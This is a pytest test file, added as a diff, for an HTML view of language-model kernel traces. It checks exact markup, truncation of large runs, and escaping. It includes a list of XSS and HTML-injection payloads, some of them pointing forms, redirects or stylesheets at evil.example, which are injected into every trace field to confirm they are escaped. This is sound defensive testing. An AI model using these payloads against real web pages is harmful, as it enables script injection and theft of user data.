@@ -1,0 +1,379 @@
+"""The tree as static HTML: few tags, no attributes, everything escaped, never larger than it may be."""
+
+import dataclasses
+from html import escape
+from pathlib import Path
+from typing import Any, Literal, get_args, get_origin, get_type_hints
+
+import pytest
+from hypothesis import given, settings
+from trace_examples import STORIES, Story, answered, batch, cut_off, fenced, nested, one_call, wide
+from trace_strategies import PLAN, RANDOM, Plan, told
+from view_checks import hidden, read
+
+from rlm_kernel.trace import (
+    MODE_LABELS,
+    Batch,
+    CallFinished,
+    CallStarted,
+    CodeExecuted,
+    ContextCard,
+    ErrorInfo,
+    Event,
+    Message,
+    Mode,
+    ModelAsked,
+    ModelReplied,
+    RichOutput,
+    RunFinished,
+    RunStarted,
+    Site,
+    Trace,
+    Usage,
+    Variable,
+    VariableChanges,
+)
+from rlm_kernel.views import html_document, html_tree, live_bundle
+
+LIMIT = 128 * 1024
+
+
+def test_one_call() -> None:
+    assert html_tree(one_call()) == (
+        "<div><p><b>Question</b> Which papers disagree?</p>\n"
+        "<ul><li><details open><summary><b>0 rlm</b> big · ✓ finished · 0.70 s · 280 → 32 tokens · $0.0030</summary>"
+        "<p>Context: papers, list, 1,200 characters — list of 3 str</p>"
+        "<ul><li><details><summary><b>Turn 1</b> · <code>print(len(context))</code></summary>"
+        "<details><summary>Reply of the model</summary><pre>```repl\nprint(len(context))\n```</pre></details>"
+        "<p>Block 1 · 0.10 s</p><pre><code>print(len(context))</code></pre>"
+        "<p>What the model saw of its output</p><pre>3\n</pre></details></li>"
+        "<li><details><summary><b>Turn 2</b> · <code>answer[&quot;content&quot;] = &quot;1 and 3&quot;</code></summary>"
+        "<details><summary>Reply of the model</summary>"
+        "<pre>```repl\nanswer[&quot;content&quot;] = &quot;1 and 3&quot;\nanswer[&quot;ready&quot;] = True\n```</pre></details>"
+        "<p>Block 1 · 0.10 s</p>"
+        "<pre><code>answer[&quot;content&quot;] = &quot;1 and 3&quot;\nanswer[&quot;ready&quot;] = True</code></pre>"
+        "<p>Variables: ~answer: dict</p></details></li></ul></details></li></ul>\n"
+        "<p><b>Answer</b></p><pre>1 and 3</pre>\n"
+        "<p><small>run papers-1 · 1.00 s · isolation: worker · trace: not on disk</small></p></div>"
+    )
+
+
+def test_nothing_yet() -> None:
+    assert html_tree(Trace(live=True)) == "<p>A run that has not begun.</p>"
+
+
+@pytest.mark.parametrize("name", STORIES)
+def test_every_story_is_well_formed_and_hides_nothing(name: str) -> None:
+    trace = STORIES[name](None)
+    seen = read(html_tree(trace))
+    assert hidden(seen.text) == []
+    assert seen.tags["summary"] == seen.tags["details"]
+    whole = html_document(trace)
+    assert whole.startswith('<!DOCTYPE html>\n<html lang="en">\n<head><meta charset="utf-8"><title>')
+    assert read(whole, document=True).tags["details"] == seen.tags["details"]
+
+
+@settings(deadline=None, max_examples=60)
+@given(plan=PLAN, random=RANDOM)
+def test_any_run_is_well_formed_and_has_all_its_calls(plan: Plan, random: Any) -> None:
+    trace = Trace(told(plan, random))
+    html = html_tree(trace)
+    read(html)
+    read(html_document(trace), document=True)
+    assert all(f"<b>{call.id} {call.kind}</b>" in html for call in trace.walk())
+
+
+@settings(deadline=None, max_examples=30)
+@given(plan=PLAN, random=RANDOM)
+def test_any_beginning_of_a_run_is_well_formed(plan: Plan, random: Any) -> None:
+    events = told(plan, random)
+    for size in {0, 1, 2, 3, len(events) // 2, len(events) - 1}:
+        read(html_tree(Trace(events[:size], live=size % 2 == 0)))
+
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "</pre><script>alert(1)</script>",
+    "</code></pre></details><img src=x onerror=alert(1)>",
+    '"><svg onload=alert(1)>',
+    "'><iframe src=javascript:alert(1)></iframe>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<style>*{display:none}</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example>",
+    "<form action=//evil.example><input name=key></form>",
+    "<math><mtext><style><img src onerror=alert(1)></style></mtext></math>",
+    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
+    "<details open ontoggle=alert(1)>",
+    "<!-- --><script>alert(1)</script>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php echo 1 ?>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+    "</title><script>alert(1)</script>",
+    "<ScRiPt\n>alert(1)</sCrIpT\t>",
+    "<img/src='x'/onerror='alert(1)'",
+    "\x00<script\x00>alert(1)</script>",
+    "\u202e<b onclick=alert(1)>\u202d",
+    "${alert(1)} {{constructor.constructor('alert(1)')()}}",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+]
+
+SLOTS: list[Event] = [
+    RunStarted(
+        run_id="r",
+        query="q",
+        started="s",
+        version="v",
+        mode="live",
+        isolation="i",
+        settings={"model": "m"},
+        context=ContextCard(name="n", type="t", schema="s", preview="p", hash="h", chars=3),
+        parent_run="r",
+    ),
+    CallStarted(
+        call_id="0",
+        kind="rlm",
+        depth=0,
+        model="m",
+        prompt="p",
+        context=ContextCard(name="n", type="t", schema="s", preview="p", hash="h"),
+    ),
+    ModelAsked(call_id="0", turn=1, messages=(Message(role="system", content="c"),)),
+    ModelReplied(
+        call_id="0",
+        turn=1,
+        text="t",
+        model="m",
+        mode="live",
+        seconds=1,
+        request_hash="h",
+        usage=Usage(requests=1),
+        finish_reason="f",
+        reasoning="r",
+    ),
+    CallStarted(
+        call_id="0.1.1",
+        kind="rlm",
+        depth=1,
+        model="m",
+        prompt="p",
+        context=ContextCard(name="n", type="t", schema="s"),
+        site=Site(block=1, line=1, code="c"),
+    ),
+    ModelReplied(
+        call_id="0.1.1",
+        turn=1,
+        text="",
+        model="m",
+        mode="live",
+        seconds=1,
+        request_hash="h",
+        error=ErrorInfo(type="t", message="m", traceback="t"),
+    ),
+    CallFinished(
+        call_id="0.1.1",
+        status="failed",
+        answer="a",
+        how="h",
+        error=ErrorInfo(type="t", message="m", traceback="t"),
+    ),
+    *(
+        CallStarted(
+            call_id=f"0.1.{number}",
+            kind="llm",
+            depth=1,
+            model="m",
+            prompt="p",
+            batch=Batch(id="b", index=number - 2, size=2),
+            site=Site(block=1, line=1, code="c"),
+        )
+        for number in (2, 3)
+    ),
+    ModelReplied(
+        call_id="0.1.2",
+        turn=1,
+        text="t",
+        model="m",
+        mode="live",
+        seconds=1,
+        request_hash="h",
+        finish_reason="length",
+        reasoning="r",
+    ),
+    CallFinished(call_id="0.1.2", status="finished", how="h"),
+    CodeExecuted(
+        call_id="0",
+        turn=1,
+        block=1,
+        code="c",
+        stdout="s",
+        stderr="e",
+        shown="s",
+        error=ErrorInfo(type="t", message="m", traceback="t"),
+        variables=VariableChanges(
+            added=(Variable(name="n", type="t", size="s", preview="p"),),
+            changed=(Variable(name="n", type="t"),),
+            removed=("r",),
+        ),
+        outputs=(RichOutput(data={"text/html": "d"}),),
+    ),
+    CallFinished(call_id="0", status="finished", answer="a", how="h"),
+    RunFinished(status="finished", answer="a", error=ErrorInfo(type="t", message="m", traceback="t")),
+]
+
+
+def poisoned(value: Any, hint: Any, payload: str) -> Any:
+    """The value with every text replaced that its type leaves open."""
+    if value is None or get_origin(hint) is Literal:
+        return value
+    if isinstance(value, str):
+        return payload
+    if isinstance(value, tuple):
+        return tuple(poisoned(part, get_args(hint)[0], payload) for part in value)
+    if isinstance(value, dict):
+        return dict.fromkeys([payload, *value], payload)
+    if not dataclasses.is_dataclass(value):
+        return value
+    hints = get_type_hints(type(value))
+    fields = {item.name: getattr(value, item.name) for item in dataclasses.fields(value)}
+    found = {
+        name: poisoned(part, _bare(hints[name]), payload)
+        for name, part in fields.items()
+        if name != "call_id"
+    }
+    return dataclasses.replace(value, **found)  # type: ignore[type-var]
+
+
+def _bare(hint: Any) -> Any:
+    return (
+        hint if get_origin(hint) else next((part for part in get_args(hint) if part is not type(None)), hint)
+    )
+
+
+@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
+def test_no_text_of_a_trace_becomes_markup(payload: str) -> None:
+    trace = Trace([poisoned(event, type(event), payload) for event in SLOTS])
+    trace.warning = payload
+    trace.path = Path(payload.replace("\x00", ""))
+    plain = read(html_tree(Trace(SLOTS)))
+    seen = read(html_tree(trace))
+    assert seen.tags["details"] == plain.tags["details"]
+    assert seen.text.count("alert(1)") >= 20 or "alert" not in payload
+    assert hidden(seen.text) == []
+    read(html_document(trace), document=True)
+    read(live_bundle(trace, 1.0)["text/html"])
+
+
+def test_no_text_of_an_id_becomes_markup() -> None:
+    story = Story()
+    story.root()
+    story.llm("0.1.<script>alert(1)</script>", "p")
+    read(html_tree(story.stop()))
+
+
+@pytest.mark.parametrize("letter", ["x", "&", "'", "\x00", "\u202e", "語", "\ud83d", "\n"], ids=ascii)
+def test_huge_texts_are_shortened_and_that_is_said(letter: str) -> None:
+    huge = letter * 300_000
+    story = Story(huge)
+    story.root()
+    for turn in (1, 2, 3):
+        story.ask("0", turn, huge)
+        story.reply("0", turn, fenced(huge))
+        story.code("0", turn, huge, stdout=huge)
+    story.finish("0", answer=huge, how="FINAL")
+    html = html_tree(story.end(answer=huge, error=ErrorInfo(type="E", message=huge)))
+    assert len(html) <= LIMIT
+    read(html)
+    assert " long texts shortened here; the trace has them in full." in html
+    assert "characters left out" in html
+
+
+def test_a_text_that_fits_is_not_shortened() -> None:
+    assert "shortened" not in html_tree(nested())
+
+
+@pytest.mark.parametrize("calls", [300, 5000])
+@pytest.mark.parametrize("batched", [True, False])
+def test_many_calls_are_left_out_and_counted(calls: int, batched: bool) -> None:
+    trace = wide(calls, batched=batched, prompt="Sum up " * 30, text="It says " * 30)
+    html = html_tree(trace)
+    assert len(html) <= LIMIT
+    read(html)
+    shown = sum(f"<b>{call.id} llm</b>" in html for call in trace.walk())
+    assert shown < calls
+    assert f"{calls - shown:,} calls not shown here; the trace has them all." in html
+
+
+def test_calls_within_those_left_out_are_counted() -> None:
+    story = Story()
+    story.root()
+    story.reply("0", 1, fenced("..."))
+    for index in range(400):
+        child = f"0.1.{index + 1}"
+        story.rlm(child, "Check " * 40, batch=Batch(id="0.1.1", index=index, size=400))
+        story.reply(child, 1, fenced("x" * 500))
+        story.llm(f"{child}.1.1", "Sum up " * 40)
+    trace = story.stop()
+    html = html_tree(trace)
+    assert len(html) <= LIMIT
+    shown = sum(f"<b>{call.id} {call.kind}</b>" in html for call in trace.walk())
+    assert f"{801 - shown} calls not shown here" in html
+
+
+def test_many_turns_fit() -> None:
+    story = Story()
+    story.root()
+    for turn in range(1, 2001):
+        story.reply("0", turn, fenced(f"print(context[{turn}])"))
+        story.code("0", turn, f"print(context[{turn}])", stdout="a paper")
+    html = html_tree(story.end(answer="done"))
+    assert len(html) <= LIMIT
+    assert "<p><b>Answer</b></p><pre>done</pre>" in html
+    assert "not shown here; the trace has them" in html
+    read(html)
+
+
+def test_a_long_name_does_not_make_a_long_page() -> None:
+    long = "m" * 300_000
+    story = Story(context=ContextCard(name=long, type=long, schema=long))
+    story.root()
+    story.reply("0", 1, "x", model=long)
+    html = html_tree(story.end())
+    assert len(html) <= LIMIT
+
+
+def test_a_page_has_everything() -> None:
+    trace = wide(500, batched=True, prompt="Sum up " * 50, text="z" * 3000)
+    page = html_document(trace)
+    assert all(f"<b>{call.id} {call.kind}</b>" in page for call in trace.walk())
+    assert "shortened" not in page
+    assert "not shown" not in page
+
+
+@pytest.mark.parametrize("mode", sorted(MODE_LABELS))
+def test_an_answer_says_when_no_live_model_gave_it(mode: Mode) -> None:
+    label = MODE_LABELS[mode]
+    note = f" <i>({escape(label)})</i>" if label else ""
+    assert f"<p><b>Answer</b>{note}</p><pre>1 and 3</pre>" in html_tree(answered(mode))
+
+
+def test_an_unknown_price_is_not_shown_as_nothing() -> None:
+    assert "$" not in html_tree(nested())
+
+
+def test_a_batch_says_how_it_stands() -> None:
+    html = html_tree(batch())
+    assert "<summary><b>0.1.1…</b> batch of 5 llm · 4 finished, 1 failed</summary>" in html
+
+
+def test_a_warning_is_shown() -> None:
+    trace = cut_off()
+    trace.warning = "the last line is <gone>"
+    assert "<p><b>Note</b> the last line is &lt;gone&gt;</p>" in html_tree(trace)
+
+
+def test_a_reply_cut_short_says_so() -> None:
+    html = html_tree(Trace(SLOTS))
+    assert "<p>Reply (cut off: length)</p>" in html
